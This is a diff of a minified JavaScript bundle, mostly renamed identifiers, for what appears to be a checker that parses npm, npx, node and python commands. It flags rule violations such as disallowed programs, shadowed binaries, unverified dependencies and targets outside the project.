-B,t)),mt(y)}async function Ox({base:n,directory:e,changed:t},{event:s,body:r}){return(n&&(await xn(n,e))?.scripts.get(s))===
-r&&(!t.has(Pt({directory:e},"package.json"))||!/npm_/.test(r))}function Ax(n){const e=n.flatMap(t=>lB(Vn(`x ${If(t.text)}`).
-problems).map(s=>({...s,span:t.span})));return{targets:[],problems:e}}function Sx(n,e){const t=({span:o})=>e.some(c=>Ix(
-c.span,o)),s=n.filter(o=>t(o)||Rx(o)),r=n.filter(o=>!s.includes(o)),i=r.filter(ph);return{kept:s,refused:i.find(o=>!hh(o))??
-i[0]??r[0]}}function hh({rule:n}){return n==="program-not-allowed"}function Tx(n){return e=>n&&e.rule==="tool-unknown"?{
-...e,severity:"notice"}:e}function Ix(n,e){return n.start<e.end&&n.end>e.start}function ph({severity:n}){return n==="err\
-or"}const $x=new Set(["build-files-unread","dependency-not-compared","dependency-redirected","target-changed","target-wr\
-ites","not-installed","only-prints","tool-runs-file","tool-unknown","workspaces-changed"]);function Rx({rule:n,args:e}){
-return n==="dependency-unverified"?"fault"in e&&["removed","stale"].includes(e.fault):$x.has(n)||n.startsWith("npm-scrip\
-t-")||n.startsWith("npmrc-")}const Nx=["",...["js","cjs","mjs","ts","cts","mts","jsx","tsx","json"].map(n=>`.${n}`)];async function Fx(n,e){
-return mh(n.tool??{files:[],roots:[],nodeFlags:[]},e)}function Px({files:n=[],flags:e,family:t},s){const r=e.flatMap(({name:i,
-value:o})=>o&&t&&tB(t,i)?o:[]);return mh({files:n,roots:r,nodeFlags:[]},s)}async function mh({files:n,roots:e,nodeFlags:t},s){
+B,t)),mt(y)}async function Tx({base:n,directory:e,changed:t},{event:s,body:r}){return(n&&(await xn(n,e))?.scripts.get(s))===
+r&&(!t.has(Pt({directory:e},"package.json"))||!/npm_/.test(r))}function Ix(n){const e=n.flatMap(t=>dB(Vn(`x ${If(t.text)}`).
+problems).map(s=>({...s,span:t.span})));return{targets:[],problems:e}}function $x(n,e){const t=({span:o})=>e.some(c=>Nx(
+c.span,o)),s=n.filter(o=>t(o)||Px(o)),r=n.filter(o=>!s.includes(o)),i=r.filter(ph);return{kept:s,refused:i.find(o=>!hh(o))??
+i[0]??r[0]}}function hh({rule:n}){return n==="program-not-allowed"}function Rx(n){return e=>n&&e.rule==="tool-unknown"?{
+...e,severity:"notice"}:e}function Nx(n,e){return n.start<e.end&&n.end>e.start}function ph({severity:n}){return n==="err\
+or"}const Fx=new Set(["build-files-unread","dependency-not-compared","dependency-redirected","target-changed","target-wr\
+ites","not-installed","only-prints","tool-runs-file","tool-unknown","workspaces-changed"]);function Px({rule:n,args:e}){
+return n==="dependency-unverified"?"fault"in e&&["removed","stale"].includes(e.fault):Fx.has(n)||n.startsWith("npm-scrip\
+t-")||n.startsWith("npmrc-")}const Lx=["",...["js","cjs","mjs","ts","cts","mts","jsx","tsx","json"].map(n=>`.${n}`)];async function jx(n,e){
+return mh(n.tool??{files:[],roots:[],nodeFlags:[]},e)}function Mx({files:n=[],flags:e,family:t},s){const r=e.flatMap(({name:i,
+value:o})=>o&&t&&nB(t,i)?o:[]);return mh({files:n,roots:r,nodeFlags:[]},s)}async function mh({files:n,roots:e,nodeFlags:t},s){
 const r=["",...e].flatMap(o=>{const c=ft(Pt(s,o));return c===void 0?[]:[c]}),i=[];for(const o of n)i.push(o.as==="tests"?
-await Mx(o,s):await Lx(o,[...new Set(r)],s));for(const o of t)i.push(await th(o,s));return mt(i)}async function Lx(n,e,t){
+await zx(o,s):await Gx(o,[...new Set(r)],s));for(const o of t)i.push(await th(o,s));return mt(i)}async function Gx(n,e,t){
 const{as:s,path:r,span:i}=n,o=Qn(r,i,t.directory);if(o!==void 0)return{targets:[],problems:[o]};const c=[];for(const l of e){
-const B=ft(Le.posix.join(l,r));if(B===void 0)continue;const d=await jx(n,B,t);d!==void 0&&c.push(d)}return c.length>0?mt(
-c):s==="code"||s==="config"?xa(t.tree,Le.posix.join(t.directory,r),r,i):s==="module"&&n.first?nh(t,r,i):pt}async function jx(n,e,t){
-const{as:s,path:r,span:i}=n,{tree:o}=t,c=Xf(o,s==="place"?[e]:Nx.map(B=>e+B));if(c===void 0)return;const l=c.kind==="ins\
-ide"&&!Wt(c.entry.kind);if(s==="place"&&c.kind==="inside")return pt;if(!l)return bc(n,e,c,t);if(s==="config"){const B=At(
-o,Le.posix.join(c.path,"tsconfig.json"));return B.kind==="missing"?pt:bc(n,e,B,t)}return eh(t,{path:r,wanted:e},i,B=>bc(
-n,e,B.found,t))}async function bc({as:n,path:e,span:t,ifFile:s},r,i,o){const c=await hc(o,{path:e,wanted:r,found:i},t);return n===
-"module"&&s&&c.targets.length>0?mt([{targets:[],problems:[s]},c]):c}function Mx({path:n,span:e},t){return Vf(t,n,e,async s=>s.
-found.kind==="inside"&&Wt(s.found.entry.kind)?hc(t,s,e):pt)}async function Gx(n,e,t){const{subcommand:s,operands:r,flags:i}=n,
-[o]=r,c=o?.span??i[0]?.span??{start:0,end:0};if(s==="exec")return o===void 0?pt:_c(e,n,o);const{project:l,selected:B,runs:d,
-packages:h,problems:g}=await xf(n,e,c);if(l===void 0)return{targets:[],problems:g};const C=[await Sa({...e,directory:l},
+const B=ft(Le.posix.join(l,r));if(B===void 0)continue;const d=await Hx(n,B,t);d!==void 0&&c.push(d)}return c.length>0?mt(
+c):s==="code"||s==="config"?Aa(t.tree,Le.posix.join(t.directory,r),r,i):s==="module"&&n.first?nh(t,r,i):pt}async function Hx(n,e,t){
+const{as:s,path:r,span:i}=n,{tree:o}=t,c=Xf(o,s==="place"?[e]:Lx.map(B=>e+B));if(c===void 0)return;const l=c.kind==="ins\
+ide"&&!Wt(c.entry.kind);if(s==="place"&&c.kind==="inside")return pt;if(!l)return _c(n,e,c,t);if(s==="config"){const B=At(
+o,Le.posix.join(c.path,"tsconfig.json"));return B.kind==="missing"?pt:_c(n,e,B,t)}return eh(t,{path:r,wanted:e},i,B=>_c(
+n,e,B.found,t))}async function _c({as:n,path:e,span:t,ifFile:s},r,i,o){const c=await mc(o,{path:e,wanted:r,found:i},t);return n===
+"module"&&s&&c.targets.length>0?mt([{targets:[],problems:[s]},c]):c}function zx({path:n,span:e},t){return Vf(t,n,e,async s=>s.
+found.kind==="inside"&&Wt(s.found.entry.kind)?mc(t,s,e):pt)}async function Ux(n,e,t){const{subcommand:s,operands:r,flags:i}=n,
+[o]=r,c=o?.span??i[0]?.span??{start:0,end:0};if(s==="exec")return o===void 0?pt:Ec(e,n,o);const{project:l,selected:B,runs:d,
+packages:h,problems:g}=await xf(n,e,c);if(l===void 0)return{targets:[],problems:g};const C=[await Ia({...e,directory:l},
 c)];for(const y of h){const _=d.filter(k=>k.directory===y);C.push(await Bh({...e,directory:y},_,c,t))}return B&&!h.includes(
-l)&&C.push(fh({...e,directory:l},c)),mt([...C,{targets:[],problems:g}])}async function _c(n,e,{text:t,span:s}){if(!Ir(t))
-return pt;const r=e.starts==="file",i=r?pt:await Kf(n,c=>Hx(c,t,s));if(!r&&i.targets.length===0)return i;const o=await Fx(
-e,n);return mt([i,Or(n.families.tools,t)?pt:He("tool-unknown",s,{tool:t}),o])}async function Hx(n,e,t){const{tree:s}=n,r=await Rr(
-s,""),i=(await mc(s)).get(e);if(i!==void 0&&n.via!==void 0&&s.stat("node_modules")===void 0)return wB(n,{text:i.file,span:t});
+l)&&C.push(fh({...e,directory:l},c)),mt([...C,{targets:[],problems:g}])}async function Ec(n,e,{text:t,span:s}){if(!Ir(t))
+return pt;const r=e.starts==="file",i=r?pt:await Kf(n,c=>Jx(c,t,s));if(!r&&i.targets.length===0)return i;const o=await jx(
+e,n);return mt([i,Or(n.families.tools,t)?pt:He("tool-unknown",s,{tool:t}),o])}async function Jx(n,e,t){const{tree:s}=n,r=await Rr(
+s,""),i=(await Cc(s)).get(e);if(i!==void 0&&n.via!==void 0&&s.stat("node_modules")===void 0)return bB(n,{text:i.file,span:t});
 if(r===Ln)return He("package-json-invalid",t,{path:"package.json"});if(r?.binaries.has(e))return He("binary-shadowed",t,
 {name:e,path:r.path});const o=Pt(n,`node_modules/.bin/${e}`);if(n.directory!==""&&s.stat(o)!==void 0)return He("dependen\
-cy-unverified",t,{name:e,path:o,fault:"elsewhere"});const c=s.stat("node_modules");if(c===void 0)return Kx(n,r,e,t);const l=await Zx(
+cy-unverified",t,{name:e,path:o,fault:"elsewhere"});const c=s.stat("node_modules");if(c===void 0)return Vx(n,r,e,t);const l=await qx(
 s,e),B=s.stat(l),d=At(s,l);if(B===void 0||d.kind==="missing")return He("binary-missing",t,{name:e});if(d.kind!=="inside")
 return He("target-outside",t,{path:l,reason:"symlink"});const h=Qs(d.path),g=c.tracked||B.tracked,C=!g&&d.entry.tracked&&
-await Ux(s,d.path);if(h===void 0&&!C||!Wt(d.entry.kind))return He("dependency-unverified",t,{name:e,path:d.path,fault:"e\
+await Wx(s,d.path);if(h===void 0&&!C||!Wt(d.entry.kind))return He("dependency-unverified",t,{name:e,path:d.path,fault:"e\
 lsewhere"});if(!C&&(g||d.entry.tracked)){const k={name:h??e,path:d.path,fault:"committed"};return He("dependency-unverif\
-ied",t,k)}const y=C?await lc(n,Jx(s,l)??e,t):await zx(n,e,d.path,t);if(y.some(dc))return{targets:[],problems:y};if(!await Wx(
+ied",t,k)}const y=C?await Bc(n,Kx(s,l)??e,t):await Zx(n,e,d.path,t);if(y.some(fc))return{targets:[],problems:y};if(!await Yx(
 s,d.path))return He("binary-not-node",t,{name:e,path:d.path});C&&n.changed.has(d.path)&&y.push(Xe("target-changed",t,{path:d.
-path}));const _={kind:"package_binary",name:e,path:d.path};return{targets:[Mi(n,_)],problems:y}}async function zx(n,e,t,s){
+path}));const _={kind:"package_binary",name:e,path:d.path};return{targets:[Gi(n,_)],problems:y}}async function Zx(n,e,t,s){
 const r=Qs(t)??e,i=t.slice(`node_modules/${r}/`.length),o={name:e.startsWith("@")?void 0:e,file:i},c=await Pr(n,{name:r,
-path:t,binary:o},s);return r===e||!(await On(n.tree)).npm?.packages.has(e)?c:[...c,...await lc(n,e,s)]}async function Ux(n,e){
-return(await sh(n)).some(t=>rn(e,t))}function Jx(n,e){return Qs(Le.posix.join(Le.posix.dirname(e),n.readlink(e)??""))}async function Zx(n,e){
+path:t,binary:o},s);return r===e||!(await On(n.tree)).npm?.packages.has(e)?c:[...c,...await Bc(n,e,s)]}async function Wx(n,e){
+return(await sh(n)).some(t=>rn(e,t))}function Kx(n,e){return Qs(Le.posix.join(Le.posix.dirname(e),n.readlink(e)??""))}async function qx(n,e){
 const t=`node_modules/.bin/${e}`;if(!e.startsWith("@"))return t;const s=await xn(n,`node_modules/${e}`);if(s===void 0)return t;
-const[r]=s.binaries.keys();return`node_modules/.bin/${(s.binaries.size===1?r:void 0)??e.replace(/^@[^/]*\//,"")}`}async function Wx(n,e){
-return/\.[cm]?js$/.test(e)||/^#!.*[/ ]node\b/.test(await aE(n,e))}async function Kx(n,e,t,s){const r=await x0(n.tree,t,e?.
+const[r]=s.binaries.keys();return`node_modules/.bin/${(s.binaries.size===1?r:void 0)??e.replace(/^@[^/]*\//,"")}`}async function Yx(n,e){
+return/\.[cm]?js$/.test(e)||/^#!.*[/ ]node\b/.test(await cE(n,e))}async function Vx(n,e,t,s){const r=await S0(n.tree,t,e?.
 dependencies??new Set);if(r===void 0)return He("binary-missing",s,{name:t});const i={kind:"package_binary",name:t},o=await Pr(
-n,{name:r,path:t},s);return{targets:[Mi(n,i)],problems:[n.tree.isPending?.("node_modules")?Xe("target-not-judged",s,{path:t}):
+n,{name:r,path:t},s);return{targets:[Gi(n,i)],problems:[n.tree.isPending?.("node_modules")?Xe("target-not-judged",s,{path:t}):
 Xe("not-installed",s,{name:t}),...o]}}async function gh(n,e,t,s){const{subcommand:r,operands:i,flags:o}=n,[c]=i;if(c===void 0)
-return pt;const{text:l,span:B}=c,d=mt([await Sa({...t,directory:""},B),t.directory===""?pt:await Sa(t,B)]),h=Ds(l)||t.families?.
-allowed.has(l)===!0,g={...n,subcommand:"exec"};if(r==="exec")return mt([d,h?pt:await _c(t,g,c)]);const C=await qx(t,yh(n,
+return pt;const{text:l,span:B}=c,d=mt([await Ia({...t,directory:""},B),t.directory===""?pt:await Ia(t,B)]),h=Ds(l)||t.families?.
+allowed.has(l)===!0,g={...n,subcommand:"exec"};if(r==="exec")return mt([d,h?pt:await Ec(t,g,c)]);const C=await Qx(t,yh(n,
 e),B);if("problems"in C)return mt([d,C]);const y=C.filter(({manifest:v})=>v.scripts.has(l));if(y.length>0){const v=y.map(
-O=>Yx(O,n,t,s));return mt([d,...await Promise.all(v)])}const _=l==="start";if(r==="script-or-tool"&&!_){if(h)return d;if(Ir(
-l))return mt([d,await _c(t,g,c)]);if(!/^[:.-]*\w[\w:.-]*$/.test(l)){const v=[St("outside-code",e.program,c)];return mt([
+O=>Xx(O,n,t,s));return mt([d,...await Promise.all(v)])}const _=l==="start";if(r==="script-or-tool"&&!_){if(h)return d;if(Ir(
+l))return mt([d,await Ec(t,g,c)]);if(!/^[:.-]*\w[\w:.-]*$/.test(l)){const v=[St("outside-code",e.program,c)];return mt([
 d,{targets:[],problems:v}])}}const k={script:l,passes:o.some(({name:v})=>v==="--if-present")};return mt([d,He("npm-scrip\
 t-missing",B,k,_?"error":void 0)])}function Ch({data:n}){return n.starts==="script-or-tool"||n.starts==="script-tool-or-\
 file"}function yh({anyPackage:n,flags:e,passthrough:t},{data:s}){const r=[...e.map(({name:i})=>i),...t.map(({text:i})=>i)];
-return n===!0||r.some(i=>s.selecting_flags.includes(i.replace(/=.*/s,"")))}async function qx({tree:n,directory:e},t,s){const r=Ti(
+return n===!0||r.some(i=>s.selecting_flags.includes(i.replace(/=.*/s,"")))}async function Qx({tree:n,directory:e},t,s){const r=Ii(
 n,"package.json").flatMap(({path:l})=>l.split("/").includes("node_modules")?[]:Le.posix.dirname(l).replace(/^\.$/,"")),i=l=>n.
 stat(Le.posix.join(l,"package.json"))!==void 0,o=t?r:Fr(e).filter(i).slice(0,1);if(o.length===0)return He("package-json-\
 missing",s,{directory:e});const c=[];for(const l of o){const B=await Rr(n,l);if(B===Ln)return He("package-json-invalid",
-s,{path:Le.posix.join(l,"package.json")});B!==void 0&&c.push({directory:l,manifest:B})}return c}async function Yx({directory:n,
+s,{path:Le.posix.join(l,"package.json")});B!==void 0&&c.push({directory:l,manifest:B})}return c}async function Xx({directory:n,
 manifest:e},{operands:[t],passthrough:s},r,i){const o={...r,directory:n},{text:c="",span:l={start:0,end:0}}=t??{},B=Tf(e,
-n,{event:c,words:s});return mt([await Bh(o,B,l,i),{targets:[],problems:Of(B,c,o,l)}])}const Vx=5;async function Qx(n,e,t,s){
-const r=Xx(n,e,t);if("problems"in r)return r;const{subcommand:i,starts:o,operands:c,module:l,launched:B}=n,[d]=c,h=[eO(e,
-t,Ec(n)),...sO(n,r),await Px(n,t)],g={subcommand:i??d?.text??"",span:Ec(n)};if(h.push(aO(e,r,g)),l!==void 0&&(o!=="modul\
-e"||B)&&h.push(oO(e,r,l)),d!==void 0&&o==="file"&&h.push(rO(n,e,r)),d!==void 0&&o==="module"&&h.push(iO(r,d,n.passthrough)),
+n,{event:c,words:s});return mt([await Bh(o,B,l,i),{targets:[],problems:Of(B,c,o,l)}])}const eO=5;async function tO(n,e,t,s){
+const r=nO(n,e,t);if("problems"in r)return r;const{subcommand:i,starts:o,operands:c,module:l,launched:B}=n,[d]=c,h=[sO(e,
+t,vc(n)),...oO(n,r),await Mx(n,t)],g={subcommand:i??d?.text??"",span:vc(n)};if(h.push(lO(e,r,g)),l!==void 0&&(o!=="modul\
+e"||B)&&h.push(uO(e,r,l)),d!==void 0&&o==="file"&&h.push(aO(n,e,r)),d!==void 0&&o==="module"&&h.push(cO(r,d,n.passthrough)),
 !Ch(e))return mt(h);if(i==="run"||i==="exec"||i==="script-or-tool")h.push(await gh(n,e,r,s));else if(i!==void 0&&yh(n,e)){
-const C={text:i,span:Ec(n),quoted:!1},y={...n,subcommand:"run",operands:[C]};h.push(await gh(y,e,r,s))}return mt(h)}function Ec({
-operands:n,flags:e}){return n[0]?.span??e[0]?.span??{start:0,end:0}}function Xx({flags:n},e,t){let s=t;for(const{name:r,
-value:i,span:o}of n){if(i===void 0||!tB(e,r))continue;const c=yB(s,i,o);if("problems"in c)return c;s={...t,directory:c.path}}
-return s}function eO({program:n,data:e},{tree:t,changed:s},r){if(e.build_files.length===0)return pt;const i=tO(t),o=i.get(
-e)??nO(t,e.build_files);i.set(e,o);const c=o.filter(B=>s.has(B)),l=o.slice(0,Vx);return mt([o.length===0?pt:He("build-fi\
-les-unread",r,{program:n,files:l,count:o.length}),...c.map(B=>He("target-changed",r,{path:B}))])}const tO=Fn(()=>new Map);
-function nO(n,e){const t=s=>e.some(r=>eo(r.includes("/")?s:Le.posix.basename(s),r,{dot:!0}));return[...n.files()].flatMap(
-({path:s})=>!rn(s,"node_modules")&&t(s)?s:[])}function sO({operands:n,flags:e,starts:t,subcommand:s,family:r},i){const o=r&&
+const C={text:i,span:vc(n),quoted:!1},y={...n,subcommand:"run",operands:[C]};h.push(await gh(y,e,r,s))}return mt(h)}function vc({
+operands:n,flags:e}){return n[0]?.span??e[0]?.span??{start:0,end:0}}function nO({flags:n},e,t){let s=t;for(const{name:r,
+value:i,span:o}of n){if(i===void 0||!nB(e,r))continue;const c=wB(s,i,o);if("problems"in c)return c;s={...t,directory:c.path}}
+return s}function sO({program:n,data:e},{tree:t,changed:s},r){if(e.build_files.length===0)return pt;const i=rO(t),o=i.get(
+e)??iO(t,e.build_files);i.set(e,o);const c=o.filter(B=>s.has(B)),l=o.slice(0,eO);return mt([o.length===0?pt:He("build-fi\
+les-unread",r,{program:n,files:l,count:o.length}),...c.map(B=>He("target-changed",r,{path:B}))])}const rO=Fn(()=>new Map);
+function iO(n,e){const t=s=>e.some(r=>no(r.includes("/")?s:Le.posix.basename(s),r,{dot:!0}));return[...n.files()].flatMap(
+({path:s})=>!rn(s,"node_modules")&&t(s)?s:[])}function oO({operands:n,flags:e,starts:t,subcommand:s,family:r},i){const o=r&&
 Ch(r)&&s!=="test";return[...(t===void 0&&!o?n:[]).map(({text:B,span:d})=>({text:B.replace(/::.*$/s,""),span:d})),...e.flatMap(
 ({value:B,span:d})=>B===void 0?[]:[{text:B,span:d}])].map(({text:B,span:d})=>{const h=ft(Pt(i,B));return h===void 0||h===
 ""?pt:rn(h,".git",{ignoreCase:!0})?He("target-outside",d,{path:h,reason:"git"}):At(i.tree,h).kind==="outside"?He("target\
--outside",d,{path:B,reason:"symlink"}):pt})}function rO({operands:[n],parsed:e},t,s){if(n===void 0)return pt;const{targets:r,
-problems:i}=wh(s,n),o=tc(t,n.text,n.span).length>0,c=r.flatMap(({path:l=""})=>o?[]:tc(t,l,n.span));return{targets:r.map(
+-outside",d,{path:B,reason:"symlink"}):pt})}function aO({operands:[n],parsed:e},t,s){if(n===void 0)return pt;const{targets:r,
+problems:i}=wh(s,n),o=sc(t,n.text,n.span).length>0,c=r.flatMap(({path:l=""})=>o?[]:sc(t,l,n.span));return{targets:r.map(
 l=>({...l,...e&&{parsed:e}})),problems:[...i,...c]}}function wh(n,{text:e,span:t}){const s=Qn(e,t,n.directory);if(s!==void 0)
-return{targets:[],problems:[s]};const r=yB(n,e,t);if("problems"in r)return r;if(!Wt(r.kind))return He("target-not-a-file",
-t,{path:e,reason:r.kind});if(!r.tracked)return He("target-missing",t,{path:e,untracked:!0});const i=ft(Pt(n,e))??"";return Aa(
-n,{name:e,path:r.path,wanted:i},t)}function iO(n,e,t){const{text:s,span:r}=e,i=Qa(s).find(o=>!o.endsWith("/__init__.py")&&
-n.tree.stat(Pt(n,o))!==void 0);if(i===void 0){const o=_D(e,t,n.families.tools.module);return mt([He("tool-unknown",r,{tool:s}),
-{targets:[],problems:o}])}return wh(n,{text:i,span:r,quoted:!1})}function oO({program:n},{tree:e,base:t,changed:s,directory:r},{
+return{targets:[],problems:[s]};const r=wB(n,e,t);if("problems"in r)return r;if(!Wt(r.kind))return He("target-not-a-file",
+t,{path:e,reason:r.kind});if(!r.tracked)return He("target-missing",t,{path:e,untracked:!0});const i=ft(Pt(n,e))??"";return Ta(
+n,{name:e,path:r.path,wanted:i},t)}function cO(n,e,t){const{text:s,span:r}=e,i=ec(s).find(o=>!o.endsWith("/__init__.py")&&
+n.tree.stat(Pt(n,o))!==void 0);if(i===void 0){const o=kD(e,t,n.families.tools.module);return mt([He("tool-unknown",r,{tool:s}),
+{targets:[],problems:o}])}return wh(n,{text:i,span:r,quoted:!1})}function uO({program:n},{tree:e,base:t,changed:s,directory:r},{
 text:i,span:o}){const[c]=i.split("."),l=[...s].filter(B=>{const[,d=""]=/^(\w+)(?:\.py|\/__init__\.py)$/.exec(Le.posix.relative(
 r,B))??[];return e.stat(B)!==void 0&&t?.stat(B)===void 0&&(d===c||df(d))});return bh(l,{program:n,subcommand:`-m ${i}`},
-o)}function aO({program:n,data:e},{changed:t,directory:s},{subcommand:r,span:i}){const o=Fr(s).flatMap(l=>e.settings.map(
+o)}function lO({program:n,data:e},{changed:t,directory:s},{subcommand:r,span:i}){const o=Fr(s).flatMap(l=>e.settings.map(
 B=>Le.posix.join(l,B))),c=[...t].filter(l=>o.some(B=>rn(l,B)));return bh(c,{program:n,subcommand:r},i)}function bh(n,e,t){
-return mt(n.map(s=>He("settings-changed",t,{...e,path:s})))}function cO(n,e,t){const s=new iE((r,i)=>_h(r,i,s),t);return _h(
-n,e,s)}async function _h(n,e,t){const s=[];for(const r of[n,...Xi(n)]){const i=await dO(r,e);if("rule"in i)s.push({targets:[],
-problems:[i]});else for(const o of i)s.push(await uO(o,e,t))}return mt(s)}function uO(n,e,t){const{program:s,family:r}=n;
-return r!==void 0?Qx(n,r,e,t):s==="node"?F0(n,e):Gx(n,e,t)}const lO=/^[\w:.@/-]{1,200}$/;async function dO(n,e){const{selects:t,
+return mt(n.map(s=>He("settings-changed",t,{...e,path:s})))}function dO(n,e,t){const s=new oE((r,i)=>_h(r,i,s),t);return _h(
+n,e,s)}async function _h(n,e,t){const s=[];for(const r of[n,...to(n)]){const i=await hO(r,e);if("rule"in i)s.push({targets:[],
+problems:[i]});else for(const o of i)s.push(await BO(o,e,t))}return mt(s)}function BO(n,e,t){const{program:s,family:r}=n;
+return r!==void 0?tO(n,r,e,t):s==="node"?j0(n,e):Ux(n,e,t)}const fO=/^[\w:.@/-]{1,200}$/;async function hO(n,e){const{selects:t,
 ...s}=n,[r]=s.operands;if(t===void 0||r===void 0)return[n];const{text:i,span:o}=r,c=Xe("outside-code",o,{program:"npm",flag:i}),
-l=BO(i,t);if(l===void 0)return c;const d=[...(await xn(e.tree,e.directory))?.scripts.keys()??[]].filter(l);return d.length===
-0?Xe("npm-script-missing",o,{script:i,passes:!1}):d.every(h=>lO.test(h))?d.map(h=>({...s,operands:[{...r,text:h}]})):c}function BO(n,e){
+l=pO(i,t);if(l===void 0)return c;const d=[...(await xn(e.tree,e.directory))?.scripts.keys()??[]].filter(l);return d.length===
+0?Xe("npm-script-missing",o,{script:i,passes:!1}):d.every(h=>fO.test(h))?d.map(h=>({...s,operands:[{...r,text:h}]})):c}function pO(n,e){
 const t=i=>e==="wildcard"?i.replaceAll("/",":"):i.replace(/[:/]/g,o=>o===":"?"/":":"),s=Nr(t(n));if(!s?.every(i=>i.split(
-/[:/]/).every(yf)))return;const r={dot:e==="wildcard"};return i=>s.some(o=>eo(t(i),o,r))}const fO=new Set;async function hO(n,e={}){
-const t=mO(n,e),{tree:s,base:r,changed:i=fO,cwd:o="",clock:c,programs:l=Ar}=e,{isOutput:B}=e;if(t.invocation===void 0||t.
-argv===null)return t;if(s===void 0)return{...t,problems:[...t.problems,...pO(t.invocation,l)]};const d={tree:s,directory:o,
-changed:i,families:l,...r&&{base:r},...B&&{isOutput:B}},{invocation:h}=t,{targets:g,problems:C}=await cO(h,d,c);return{...t,
-targets:g,problems:vO(t.problems,C).map(y=>EO(y,t.command))}}function pO(n,{tools:e}){return[n,...Xi(n)].flatMap(({subcommand:t,
-operands:[s]})=>t==="exec"&&s&&Ir(s.text)&&!Or(e,s.text)?[Xe("tool-unknown",s.span,{tool:s.text})]:[])}function mO(n,{tree:e,
-cwd:t="",programs:s=Ar}={}){if(typeof n!="string")return CO(n);const{words:r,assignments:i,problems:o}=Vn(n,e&&qs(e,t)),
-c=lB(o),[l]=r,B=(v,O,D)=>({command:n,words:r,assignments:i,argv:v,...D===void 0?void 0:{invocation:D},targets:[],problems:O});
-if(l===void 0)return B(null,c);const d=La({problems:c})?r.map(({text:v})=>v):null,{program:h,problem:g}=wO(n,r,s);if(g?.
-rule==="sentence")return B(d,[g,...c]);if(h===void 0)return B(d,[...c,g]);const C=gO(r,c).slice(1),{invocation:y,problems:_}=nc(
-h,C,s),k=Cf(y,t);return B(d,[...c,..._,...k],y)}function gO(n,e){const t=e.find(s=>s.rule==="shell-operator"||is(s,"line\
--break")&&!s.args.quoted);return t===void 0?n:n.filter(({span:s})=>s.start<t.span.start)}function CO(n){const e=n===null?
+/[:/]/).every(yf)))return;const r={dot:e==="wildcard"};return i=>s.some(o=>no(t(i),o,r))}const mO=new Set;async function gO(n,e={}){
+const t=yO(n,e),{tree:s,base:r,changed:i=mO,cwd:o="",clock:c,programs:l=Ar}=e,{isOutput:B}=e;if(t.invocation===void 0||t.
+argv===null)return t;if(s===void 0)return{...t,problems:[...t.problems,...CO(t.invocation,l)]};const d={tree:s,directory:o,
+changed:i,families:l,...r&&{base:r},...B&&{isOutput:B}},{invocation:h}=t,{targets:g,problems:C}=await dO(h,d,c);return{...t,
+targets:g,problems:xO(t.problems,C).map(y=>DO(y,t.command))}}function CO(n,{tools:e}){return[n,...to(n)].flatMap(({subcommand:t,
+operands:[s]})=>t==="exec"&&s&&Ir(s.text)&&!Or(e,s.text)?[Xe("tool-unknown",s.span,{tool:s.text})]:[])}function yO(n,{tree:e,
+cwd:t="",programs:s=Ar}={}){if(typeof n!="string")return bO(n);const{words:r,assignments:i,problems:o}=Vn(n,e&&qs(e,t)),
+c=dB(o),[l]=r,B=(v,O,D)=>({command:n,words:r,assignments:i,argv:v,...D===void 0?void 0:{invocation:D},targets:[],problems:O});
+if(l===void 0)return B(null,c);const d=Ma({problems:c})?r.map(({text:v})=>v):null,{program:h,problem:g}=EO(n,r,s);if(g?.
+rule==="sentence")return B(d,[g,...c]);if(h===void 0)return B(d,[...c,g]);const C=wO(r,c).slice(1),{invocation:y,problems:_}=rc(
+h,C,s),k=Cf(y,t);return B(d,[...c,..._,...k],y)}function wO(n,e){const t=e.find(s=>s.rule==="shell-operator"||is(s,"line\
+-break")&&!s.args.quoted);return t===void 0?n:n.filter(({span:s})=>s.start<t.span.start)}function bO(n){const e=n===null?
 "null":Array.isArray(n)?"array":typeof n,t=Xe("command-not-text",{start:0,end:0},{type:e});return{command:"",words:[],assignments:[],
-argv:null,targets:[],problems:[t]}}const yO=/^(node|npm|npx)(?:\.exe|\.cmd|\.ps1|\.js|-cli(?:\.js)?)?$/i;function wO(n,e,{
+argv:null,targets:[],problems:[t]}}const _O=/^(node|npm|npx)(?:\.exe|\.cmd|\.ps1|\.js|-cli(?:\.js)?)?$/i;function EO(n,e,{
 allowed:t,offered:s,tools:r}){const[i]=e,o=i?.text??"",c=Ds(o)?o:t.get(o);if(c!==void 0)return{program:c};const l=i?.span??
-{start:0,end:0},B=(g,C)=>({program:void 0,problem:Xe(g,l,C)}),[,d]=yO.exec(o)??[];if(d===void 0&&B0(n)){const g=e.at(-1)?.
-span.end??l.end;return{program:void 0,problem:Xe("sentence",{start:l.start,end:g},{})}}const h={..._O(e,{allowed:t,offered:s}),
+{start:0,end:0},B=(g,C)=>({program:void 0,problem:Xe(g,l,C)}),[,d]=_O.exec(o)??[];if(d===void 0&&p0(n)){const g=e.at(-1)?.
+span.end??l.end;return{program:void 0,problem:Xe("sentence",{start:l.start,end:g},{})}}const h={...kO(e,{allowed:t,offered:s}),
 allowed:[...t.keys()]};return/[\\/]/.test(o)?B("program-by-path",{program:o,...h}):d!==void 0?B("program-look-alike",{program:o,
-meant:d.toLowerCase()}):B("program-not-allowed",{program:o,group:Lt(o)?.kind??(r.known(o)?"npx":"other"),...h})}const bO=new Map(
+meant:d.toLowerCase()}):B("program-not-allowed",{program:o,group:Lt(o)?.kind??(r.known(o)?"npx":"other"),...h})}const vO=new Map(
 [["gmake","make"],["bunx","bun"],["pnpx","pnpm"],["yarnpkg","yarn"],["uvx","uv"],["py.test","pytest"],["py","python"]]);
-function _O([n,e,t],{allowed:s,offered:r}){const i=n?.text??"",o=t!==void 0&&e?.text==="-m"?t.text:"";if(r(i)==="python"&&
+function kO([n,e,t],{allowed:s,offered:r}){const i=n?.text??"",o=t!==void 0&&e?.text==="-m"?t.text:"";if(r(i)==="python"&&
 s.has(o))return{offered:"",word:o};const c=r(i);if(c!==void 0)return{offered:c};const l=i.replace(/^.*[\\/]/,"").replace(
-/\.(?:exe|cmd|bat|ps1)$/i,"").replace(/^(python[23]?|pytest)[-.][\d.]+$/,"$1"),B=bO.get(l)??l,d=r(B);return s.has(B)?{offered:"",
-word:B}:d===void 0?{offered:""}:{offered:d,word:B}}function EO(n,e){const t=e.slice(n.span.start,n.span.end);return is(n,
-"target-missing")&&/^[^'"\s\\]*\\[^'"\s]*$/.test(t)?{...n,args:{...n.args,written:t}}:n}function vO(n,e){const t=new Set(
+/\.(?:exe|cmd|bat|ps1)$/i,"").replace(/^(python[23]?|pytest)[-.][\d.]+$/,"$1"),B=vO.get(l)??l,d=r(B);return s.has(B)?{offered:"",
